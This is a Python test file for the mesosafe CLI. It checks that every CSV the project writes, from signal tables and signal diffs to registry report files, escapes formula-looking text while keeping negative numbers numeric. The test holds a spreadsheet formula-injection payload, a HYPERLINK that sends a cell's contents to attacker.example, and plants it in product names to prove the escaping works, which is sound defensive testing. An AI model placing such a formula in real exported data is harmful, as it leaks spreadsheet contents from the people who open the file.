"""Every CSV the project writes escapes formula-looking text (mesosafe.csvsafe), with a product named
=HYPERLINK(…) run through each writer: `mesosafe signals` (--out file and stdout), `mesosafe signals-diff`
(--out file and stdout) and the registry report's CSVs (rates, funnels, CUSUM series, alerts and alert cases).
Numbers stay numbers: a negative IC is written as -0.5, not '-0.5."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from click.testing import CliRunner

from mesosafe.cli import cli
from mesosafe.clinic_safety.demo import OutbreakSpec, demo_tables
from mesosafe.clinic_safety.report import write_report
from mesosafe.clinic_safety.tables import TreatmentTables
from mesosafe.csvsafe import FORMULA_STARTS

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Vitamin C")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _number(cell)]


def _reports(path: Path, evil_share: int) -> Path:
    """Reports where the evil product has `evil_share` of 40 reports of the event 'lump'."""
    rows = [(n, EVIL if n < evil_share else "Vitamin C", "lump" if n % 2 else "redness") for n in range(40)]
    rows += [(100 + n, "-Minus brand", "redness") for n in range(10)]  # a leading minus in text too
    pd.DataFrame(rows, columns=["id", "product", "event"]).to_csv(path, index=False)
    return path


def _run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_every_csv_writer_escapes_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    written: dict[str, str] = {}
    old, new = _reports(tmp_path / "old.csv", 4), _reports(tmp_path / "new.csv", 30)
    _run("signals", str(old), "--quiet", "--out", str(tmp_path / "old_signals.csv"))
    _run("signals", str(new), "--quiet", "--out", str(tmp_path / "new_signals.csv"))
    written["signals --out"] = (tmp_path / "new_signals.csv").read_text()
    written["signals stdout"] = _run("signals", str(new), "--quiet")
    diff_out = tmp_path / "diff.csv"
    _run(
        "signals-diff",
        str(tmp_path / "old_signals.csv"),
        str(tmp_path / "new_signals.csv"),
        "--out",
        str(diff_out),
    )
    written["signals-diff --out"] = diff_out.read_text()
    written["signals-diff stdout"] = _run(
        "signals-diff", str(tmp_path / "old_signals.csv"), str(tmp_path / "new_signals.csv")
    )

    tables = demo_tables(outbreak=OutbreakSpec(treatments=30, infections=5, batch="LOT-5", start_day=400))
    treatments = tables.treatments.copy()
    for column in ("product", "batch"):  # batches are named "<product> / <lot>" in the demo
        treatments[column] = treatments[column].str.replace("phosphatidylcholine", EVIL, regex=False)
    write_report(TreatmentTables(treatments, tables.complications), tmp_path / "report")
    for path in sorted((tmp_path / "report").glob("*.csv")):
        written[path.name] = path.read_text()

    assert {"rates_product.csv", "cusum_alerts.csv", "cusum_alert_cases.csv"} <= set(written)
    for name, text in written.items():
        assert _formula_cells(_cells(text)) == [], name
    evil = "'" + EVIL.lower()  # the signals name products in lower case
    shown = [name for name, text in written.items() if evil in text.lower().replace('""', '"')]
    assert {"signals --out", "signals stdout", "rates_product.csv", "cusum_alert_cases.csv"} <= set(shown)
    signals = pd.read_csv(io.StringIO(written["signals stdout"]))
    assert (signals.select_dtypes("number") < 0).any().any()  # negative figures (an IC) are still numbers
    assert "'-minus brand" in set(signals["product"])
